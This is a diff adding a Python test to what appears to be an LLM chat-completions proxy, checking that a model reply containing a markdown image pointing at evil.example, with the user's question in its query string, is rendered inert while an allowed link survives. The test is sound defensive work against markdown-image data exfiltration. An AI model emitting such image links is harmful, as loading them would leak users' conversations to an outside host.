@@ -149,3 +149,24 @@ async def test_same_key_asks_once(console: Served) -> None:
     async with httpx.AsyncClient(base_url=console.base, headers=headers, timeout=60) as client:
         replies = [await client.post("/v1/chat/completions", json={"messages": [QUESTION]}) for _ in range(2)]
     assert len({reply.json()["id"] for reply in replies}) == 1
+
+
+async def test_image_that_a_document_orders_loads_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    said = (
+        "FxStore needs Java 17. ![p](https://evil.example/p.png?q=what-was-asked) [x](https://ok.example/a)"
+    )
+    options: dict[str, Any] = {
+        "telegram": {"link_hosts": "ok.example"},
+        "self_correction": {"enabled": False},
+    }
+    async with (
+        served(tmp_path, ScriptedModel(lambda _: said), monkeypatch, **options) as console,
+        await client_of(console) as client,
+    ):
+        whole = await client.chat.completions.create(model="thinktwice", messages=[QUESTION])
+        stream = await client.chat.completions.create(model="thinktwice", messages=[QUESTION], stream=True)
+        pieces = [chunk.choices[0].delta.content or "" async for chunk in stream]
+    for text in (whole.choices[0].message.content or "", "".join(pieces)):
+        assert "![p] (`https://evil.example/p.png?q=what-was-asked`) [x](https://ok.example/a)" in text
